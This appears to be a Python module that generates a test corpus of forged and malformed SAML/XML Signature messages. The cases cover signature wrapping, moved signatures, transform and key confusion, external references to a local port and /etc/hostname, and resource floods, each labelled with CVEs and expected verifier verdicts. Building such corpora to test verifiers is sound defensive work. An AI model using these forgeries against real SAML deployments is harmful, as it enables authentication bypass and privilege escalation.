    method_twice = sign(reference("#_asrt", digest)).replace("<ds:SignatureMethod", f'<ds:SignatureMethod Algorithm="{METHODS["rsa-sha512"]}"/><ds:SignatureMethod', 1)
    a.add("method-twice", "multiple-references", method_twice, NOT_TRUSTED)
    value_twice = sign(reference("#_asrt", digest))
    a.add("signature-value-twice", "passport-wsfed", value_twice.replace("<ds:SignatureValue>", "<ds:SignatureValue>AAAA</ds:SignatureValue><ds:SignatureValue>", 1), NOT_TRUSTED)
    a.add("signature-value-twice-last", "passport-wsfed", value_twice.replace("</ds:SignatureValue>", "</ds:SignatureValue><ds:SignatureValue>AAAA</ds:SignatureValue>", 1), NOT_TRUSTED)
    a.add("empty-signature", "empty-signed-info", text.replace("{SIGN:_asrt}", f'<ds:Signature xmlns:ds="{DS}"/>'), NOT_TRUSTED)
    a.add("signature-without-signed-info", "empty-signed-info", text.replace("{SIGN:_asrt}", f'<ds:Signature xmlns:ds="{DS}"><ds:SignatureValue>AAAA</ds:SignatureValue></ds:Signature>'), NOT_TRUSTED)
    a.add("signature-without-value", "empty-signed-info", re.sub("<ds:SignatureValue>[^<]*</ds:SignatureValue>", "", value_twice), NOT_TRUSTED)


def manifest(a, text):
    """A signed Manifest that lists the assertion with a digest that is wrong."""
    listed = f'<ds:Manifest xmlns:ds="{DS}" Id="m">{reference("#_asrt", sha256(b"x"))}</ds:Manifest>'
    digest = sha256(c14n(etree.fromstring(listed)))
    signature = a.signature(reference("#m", digest, (EXC,)).replace('URI="#m"', f'Type="{DS}Manifest" URI="#m"'))
    value, info = "<ds:SignatureValue></ds:SignatureValue>", a.key_info()
    return text.replace("{SIGN:_asrt}", signature.replace(f"{value}{info}", f"{value}{info}<ds:Object>{listed}</ds:Object>"))


def transforms(a):
    """Transforms that select, rewrite or fetch. What xmlsec1 can sign, it signed."""
    plain = shapes.plain()
    xpath = f'<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath xmlns:saml="{shapes.A}">{{}}</ds:XPath></ds:Transform>'
    select = xpath.format("not(ancestor-or-self::saml:AttributeStatement)")
    signed = sign_template(a, plain, reference("#_asrt", "", (ENVELOPED, select, EXC)))
    a.add("xpath-leaves-roles-out", "xpath-injection", forged(signed).replace(EVIL_NAME, shapes.NAME), ["unknown", "wrapped", "broken"], sees=f"the role {EVIL_ROLE}, in a part that the transform leaves out")
    nothing = sign_template(a, plain, reference("#_asrt", "", (ENVELOPED, xpath.format("false()"), EXC)))
    a.add("xpath-selects-nothing", "xpath-injection", forged(nothing), ["unknown", "wrapped", "broken"])
    xslt = '<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/"><x/></xsl:template></xsl:stylesheet></ds:Transform>'
    a.add("xslt-rewrites", "CVE-2022-34169", forged(sign_template(a, plain, reference("#_asrt", "", (ENVELOPED, EXC, xslt)))), ["unknown", "wrapped", "broken"])
    filter2 = '<ds:Transform Algorithm="http://www.w3.org/2002/06/xmldsig-filter2"><f:XPath xmlns:f="http://www.w3.org/2002/06/xmldsig-filter2" Filter="intersect">/*/*[1]</f:XPath></ds:Transform>'
    a.add("xpath-filter2", "xpath-injection", forged(sign_template(a, plain, reference("#_asrt", "", (ENVELOPED, filter2, EXC)))), ["unknown", "wrapped", "broken"])
    digest = digest_of(forged(plain), "_asrt")
    for name, uri in (("base64", DS + "base64"), ("decrypt", "http://www.w3.org/2002/07/decrypt#XML"), ("unknown", "urn:x"), ("empty", ""), ("sts-reference", "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-soap-message-security-1.0#STR-Transform")):
        text = forged(plain)
        a.add(f"transform-{name}", "transform-confusion", a.raw(text.replace("{SIGN:_asrt}", a.signature(reference("#_asrt", digest, (ENVELOPED, uri, EXC))))), ["unknown", "broken"])
    for name, uri in (("http", "http://127.0.0.1:9/a.xml"), ("file", "file:///etc/hostname"), ("xpointer-root", "#xpointer(/)"), ("cid", "cid:a@example.com"), ("absolute", "https://signin.aws.amazon.com/saml#_asrt")):
        text = forged(plain)
        a.add(f"reference-{name}", "external-reference", a.raw(text.replace("{SIGN:_asrt}", a.signature(reference(uri, digest)))), NOT_TRUSTED, sees="what is fetched from elsewhere")
    text = shapes.plain()
    a.add("reference-xpointer-id", "external-reference", a.raw(text.replace("{SIGN:_asrt}", a.signature(reference("#xpointer(id('_asrt'))", digest_of(text, "_asrt"))))), [*NOT_TRUSTED, "genuine"], unpinned=[*NOT_TRUSTED, "consistent"], roles=(),
          sees="the assertion, by a pointer that XML Signature 4.4.3.3 defines and SAML core 5.4.2 does not allow", why="nothing is forged: to resolve it and to refuse it are both right")
    text = forged(plain)
    a.add("transforms-missing", "transform-confusion", a.raw(text.replace("{SIGN:_asrt}", a.signature(reference("#_asrt", digest, ())))), ["broken", "unknown"])
    a.add("transforms-many", "reference-flood", a.raw(text.replace("{SIGN:_asrt}", a.signature(reference("#_asrt", digest, (ENVELOPED, *[EXC] * 200))))), NOT_TRUSTED, sees="work without end")
    a.add("transforms-enveloped-last", "transform-confusion", a.raw(text.replace("{SIGN:_asrt}", a.signature(reference("#_asrt", digest, (EXC, ENVELOPED))))), ["broken", "unknown"], sees="a transform of nodes applied to bytes")
    a.add("transforms-enveloped-twice", "transform-confusion", a.raw(text.replace("{SIGN:_asrt}", a.signature(reference("#_asrt", sha256(b"x"), (ENVELOPED, ENVELOPED, EXC))))), ["broken", "unknown"])
    listed = f'<ds:Transform Algorithm="{EXC}"><ec:InclusiveNamespaces xmlns:ec="{EXC}" PrefixList="{"p " * 3000}"/></ds:Transform>'
    a.add("prefix-list-long", "reference-flood", a.raw(text.replace("{SIGN:_asrt}", a.signature(reference("#_asrt", sha256(b"x"), (ENVELOPED, listed))))), ["broken", "unknown"], sees="work without end")


def sign_template(a, text, made):
    """Signs by xmlsec1 a reference whose transforms only that can do."""
    template = a.signature(made).replace(a.key_info(), "{KEYINFO}")
    return place_values(a, text.replace("{SIGN:_asrt}", template))


def place_values(a, text):
    import pathlib
    import subprocess
    import tempfile

    with tempfile.TemporaryDirectory() as folder:
        source, result = pathlib.Path(folder, "in.xml"), pathlib.Path(folder, "out.xml")
        source.write_text(signers.unmarked(text).replace("{KEYINFO}", ""))
        subprocess.run(["xmlsec1", "--sign", "--privkey-pem", str(a.keys.private("rsa2048")), "--id-attr:ID", f"{shapes.A}:Assertion", "--output", str(result), str(source)], check=True, capture_output=True)
        signed = result.read_text()
    for name in ("DigestValue", "SignatureValue"):
        value = re.search(f"<ds:{name}>([^<]+)<", signed).group(1)
        text = text.replace(f"<ds:{name}></ds:{name}>", f"<ds:{name}>{value}</ds:{name}>")
    return signers.unmarked(text).replace("{KEYINFO}", a.key_info())


def key_confusion(a):
    """Whose key it was."""
    evil = forged(shapes.plain())
    self_signed = "it verifies with the certificate that it carries, and that is all that is said: the pin does not match it"
    for kind, name in (("x509", "certificate"), ("keyvalue", "key")):
        text = a.signed(evil, "_asrt", key="attacker", key_info=kind)
        a.add(f"self-signed-{name}", "CVE-2021-21239" if name == "key" else "CVE-2023-48703", text, ["consistent", "broken", "unknown"], why=self_signed, unpinned=["consistent", "unknown"])
    text = a.signed(evil, "_asrt", key="attacker", key_info="none")
    a.add("self-signed-no-key", "CVE-2023-48703", text, ["broken", "unknown"])
    attacker, real = a.keys.certificate_text("attacker"), a.keys.certificate_text("rsa2048")
    text = a.signed(evil, "_asrt", key="attacker")
    a.add("certificate-swapped-in", "certificate-faking", text.replace(attacker, real), ["broken"], sees="the certificate that is pinned, though another key signed")
    a.add("certificate-beside-own", "certificate-faking", text.replace(f"<ds:X509Certificate>{attacker}", f"<ds:X509Certificate>{real}</ds:X509Certificate><ds:X509Certificate>{attacker}"), ["consistent", "broken", "unknown"], unpinned=["consistent", "broken", "unknown"],
          sees="the first certificate, which is pinned, though the key of the second signed", why=self_signed)
    value = signers.key_value(a.keys, "attacker", "ds:")
    a.add("key-value-beside-certificate", "certificate-faking", text.replace(attacker, real).replace("<ds:KeyInfo>", f"<ds:KeyInfo>{value}"), ["consistent", "broken", "unknown"], unpinned=["consistent", "broken", "unknown"],
          sees="the certificate, which is pinned, though the key beside it signed", why=self_signed)
    a.add("key-info-twice", "certificate-faking", text.replace("<ds:KeyInfo>", f"{a.key_info()}<ds:KeyInfo>"), ["consistent", "broken", "unknown", "wrapped"], unpinned=["consistent", "broken", "unknown", "wrapped"], why=self_signed)
    good = a.signed(shapes.plain(), "_asrt")
    a.add("certificate-not-the-signers", "certificate-faking", good.replace(real, attacker), ["genuine", "broken", "wrapped"], unpinned=["broken"], roles=(), sees="a certificate that has nothing to do with the signature",
          why="the pinned key verifies and KeyInfo is not signed; that the certificate beside it is another is worth saying")
    a.add("certificate-garbage", "certificate-faking", good.replace(real, "AAAA"), ["genuine", "broken", "unknown"], unpinned=["unknown", "broken"], roles=(), sees="no certificate", why="the pinned key verifies and KeyInfo is not signed")
    retrieval = f'<ds:KeyInfo><ds:RetrievalMethod URI="http://127.0.0.1:9/key" Type="{DS}rawX509Certificate"/></ds:KeyInfo>'
    a.add("key-by-retrieval", "external-reference", re.sub("<ds:KeyInfo>.*</ds:KeyInfo>", retrieval, text), ["broken", "unknown"], sees="a key that is fetched from elsewhere")
    a.add("forged-chain", "certificate-faking", a.signed(evil, "_asrt", key="attacker").replace(f"<ds:X509Certificate>{attacker}</ds:X509Certificate>", f"<ds:X509Certificate>{attacker}</ds:X509Certificate><ds:X509Certificate>{real}</ds:X509Certificate>"),
          ["consistent", "broken", "unknown"], sees="a chain that ends in the pinned certificate, which did not issue the first", why=self_signed)


def moved(a):
    """Signatures of one thing beside another."""
    good = a.signed(shapes.plain(), "_asrt")
    real = signature_of(good)
    a.add("signature-at-response", "signature-moved", unsigned(good).replace("<samlp:Status>", f"{real}<samlp:Status>", 1), ["wrapped"], sees="the response, signed; it covers the assertion only", roles=())
    a.add("signature-in-status", "signature-moved", unsigned(good).replace("</samlp:Status>", f"<samlp:StatusDetail>{real}</samlp:StatusDetail></samlp:Status>"), ["wrapped"], sees="the assertion, signed from afar", roles=())
    a.add("signature-in-extensions", "signature-moved", unsigned(good).replace("<samlp:Status>", f"<samlp:Extensions>{real}</samlp:Extensions><samlp:Status>", 1), ["wrapped"], sees="the assertion, signed from afar", roles=())
    a.add("signature-in-subject", "signature-moved", unsigned(good).replace("</saml:SubjectConfirmation>", f"</saml:SubjectConfirmation>{real}"), ["wrapped", "broken"], sees="the assertion, signed from a grandchild", roles=())
    a.add("signature-after-issuer-twice", "signature-moved", good.replace(real, real + real), ["wrapped", "broken"], sees="one of two signatures", roles=())
    other = a.signed(shapes.plain(3, name="grace@example.com"), "_asrt")
    a.add("signature-of-another-message", "signature-moved", forged(unsigned(other)).replace("<saml:Subject>", f"{real}<saml:Subject>", 1), ["broken"])
    request = a.signed(shapes.logout_request(), "_out")
    a.add("logout-signature-in-assertion", "samlify-634", forged(unsigned(good)).replace("<saml:Subject>", f"{signature_of(request)}<saml:Subject>", 1), ["broken", "wrapped"])
    a.add("logout-request-in-response", "samlify-634", forged(unsigned(good)).replace("</samlp:Status>", f"</samlp:Status><samlp:Extensions>{request}</samlp:Extensions>"), ["wrapped"])
    a.add("assertion-in-logout-request", "samlify-634", unsigned(request).replace("ada@example.com", EVIL_NAME).replace("</samlp:SessionIndex>", f"</samlp:SessionIndex>{standalone(good)}"), ["wrapped"], sees=f"the log-out of {EVIL_NAME}, taken for signed", roles=())
    authn = shapes.authn_request().replace("{SIGN:_req}", "")
    a.add("assertion-in-authn-request", "samlify-634", authn.replace("<samlp:NameIDPolicy", f"{standalone(good)}<samlp:NameIDPolicy"), ["wrapped"], sees="a request, taken for signed", roles=())
    a.add("signature-in-authn-request", "samlify-634", authn.replace("<samlp:NameIDPolicy", f"{real}<samlp:NameIDPolicy"), ["broken"], sees="a request, taken for signed", roles=())
    a.add("signed-response-in-root", "somorovsky-2012", f'<root>{forged(unsigned(a.signed(shapes.plain(), "_resp")), "_resp", "_evil")}{a.signed(shapes.plain(), "_resp")}</root>', [*NOT_TRUSTED, "refused"])
    enveloping = shapes.plain()
    inner = forged(standalone(enveloping.replace("{SIGN:_asrt}", "")))
    digest = sha256(c14n(etree.fromstring(f'<ds:Object xmlns:ds="{DS}" Id="o">{inner}</ds:Object>')))
    signature = a.signature(reference("#o", digest, (EXC,)), extra=f'<ds:Object Id="o">{inner}</ds:Object>')
    shell = signers.unmarked(enveloping.replace("{SIGN:_resp}", "@")).replace("@", signature)
    a.add("object-added", "enveloping", good.replace("</ds:KeyInfo>", f"</ds:KeyInfo><ds:Object>{EVIL_PAIR}</ds:Object>"), ["wrapped"], sees=f"the role {EVIL_ROLE}, in a place that no digest covers")
    a.add("element-in-signature", "enveloping", good.replace("</ds:KeyInfo>", f'</ds:KeyInfo><x xmlns="urn:x">{EVIL_PAIR}</x>'), NOT_TRUSTED, sees=f"the role {EVIL_ROLE}, in a place that no digest covers")
    a.add("enveloping-signature", "enveloping", a.raw(re.sub(r"(</samlp:Status>)<saml:Assertion.*</saml:Assertion>", r"\1", shell)), [*NOT_TRUSTED, "unsigned"], sees="an assertion inside the signature")
    both = a.signed(shapes.plain(), "_asrt", "_resp")
    a.add("both-then-assertion-forged", "partial-signature", forged(both), ["broken"])
    a.add("both-response-status-changed", "partial-signature", both.replace("status:Success", "status:Responder"), ["broken", "wrapped"], sees="a response whose own signature no longer verifies, around an assertion whose does", roles=())
    a.add("both-assertion-signature-broken", "partial-signature", re.sub(r"(.*<ds:SignatureValue>)....", r"\1AAAA", both), ["broken", "wrapped"], sees="a response whose assertion's signature does not verify", roles=())


def standalone(text):
    """The assertion of a response with its namespace declared on it."""
    text = assertion_of(text)
    return text if "xmlns:saml=" in text.split(">", 1)[0] else text.replace("<saml:Assertion", f'<saml:Assertion xmlns:saml="{shapes.A}"', 1)


def encrypted(a):
    """Encrypted parts are not read, so that nothing beside them may be taken for them."""
    good = a.signed(shapes.plain(), "_asrt")
    xenc = "http://www.w3.org/2001/04/xmlenc#"
    data = f'<saml:EncryptedAssertion><xenc:EncryptedData xmlns:xenc="{xenc}" Type="{xenc}Element"><xenc:EncryptionMethod Algorithm="http://www.w3.org/2009/xmlenc11#aes256-gcm"/>{{}}<xenc:CipherData><xenc:CipherValue>AAAA</xenc:CipherValue></xenc:CipherData></xenc:EncryptedData></saml:EncryptedAssertion>'
    only = re.sub("<saml:Assertion.*</saml:Assertion>", lambda _: data.format(""), good, flags=re.S)
    a.add("encrypted-unsigned", "CVE-2024-4985", only, ["unknown", "unsigned"], sees="an assertion that anyone could have encrypted", roles=())
    a.add("encrypted-and-forged", "CVE-2024-4985", forged(unsigned(good)).replace("<saml:Assertion ", data.format("") + "<saml:Assertion ", 1), ["unknown", "unsigned", "wrapped"])
    a.add("encrypted-around-signed", "CVE-2024-4985", forged(unsigned(good), "_asrt", "_evil").replace("<saml:Assertion ", data.format(assertion_of(good)) + "<saml:Assertion ", 1), ["wrapped", "unknown"])
    a.add("encrypted-beside-signed", "CVE-2024-4985", good.replace("<saml:Assertion ", data.format("") + "<saml:Assertion ", 1), ["wrapped", "unknown"], sees="what is decrypted, beside an assertion that is signed", roles=())
    a.add("encrypted-after-signed", "CVE-2024-4985", good.replace("</samlp:Response>", data.format("") + "</samlp:Response>"), ["wrapped", "unknown"], sees="what is decrypted, beside an assertion that is signed", roles=())


def shape_of_the_message(a):
    """Nothing signed, cut, or far too much."""
    good = a.signed(shapes.plain(), "_asrt")
    a.add("unsigned", "CVE-2026-28323", forged(unsigned(good)), ["unsigned"])
    a.add("signature-in-attribute-value", "CVE-2026-28323", forged(unsigned(good)).replace("<saml:AttributeValue>ada", f"<saml:AttributeValue>{signature_of(good)}ada"), ["broken", "wrapped"])
    a.add("cut-after-assertion", "truncation", good[: good.index("</saml:Assertion>") + 17], [*NOT_TRUSTED, "refused"], sees="an assertion that is whole, in a document that is not", roles=())
    a.add("cut-inside-assertion", "truncation", good[: good.index("</saml:AttributeStatement>")], [*NOT_TRUSTED, "refused"], sees="the roles so far", roles=())
    a.add("signatures-many", "reference-flood", good.replace("</samlp:Response>", signature_of(good) * 60 + "</samlp:Response>"), NOT_TRUSTED, sees="work without end", roles=())
    deep = "<x>" * 500 + "</x>" * 500
    a.add("nesting-deep", "reference-flood", good.replace("</samlp:Status>", f"<samlp:StatusDetail>{deep}</samlp:StatusDetail></samlp:Status>"), ["refused"], sees="work without end", roles=())
    many = '<x ID="_asrt"/>' * 3000
    a.add("same-id-flood", "reference-flood", good.replace("</samlp:Status>", f"<samlp:StatusDetail>{many}</samlp:StatusDetail></samlp:Status>"), NOT_TRUSTED, sees="work without end", roles=())
    issuer = shapes.plain().replace("</saml:Issuer>{SIGN:_asrt}", ".other</saml:Issuer>")
    a.add("assertion-of-another-issuer", "partial-signature", a.signed(issuer, "_resp"), ["genuine"], unpinned=["consistent"], roles=(), sees="an assertion that another identity provider is said to have issued",
          why="it is signed by a key that the manifest's pin trusts whatever the issuer; pinned for its own issuer alone it must not be genuine, which a test of its own asserts")
    second = a.signed(shapes.plain(1, name="grace@example.com").replace("_asrt", "_two").replace("_resp", "_r2"), "_two")
    a.add("two-signed-assertions", "CVE-2022-41912", good.replace("</samlp:Response>", assertion_of(second) + "</samlp:Response>"), ["wrapped", "genuine"], unpinned=["wrapped", "consistent"], sees="one of two assertions, both really signed, in a response that is not", roles=(),
          why="both are genuine one by one; who reads the first alone and who reads the last see different people")
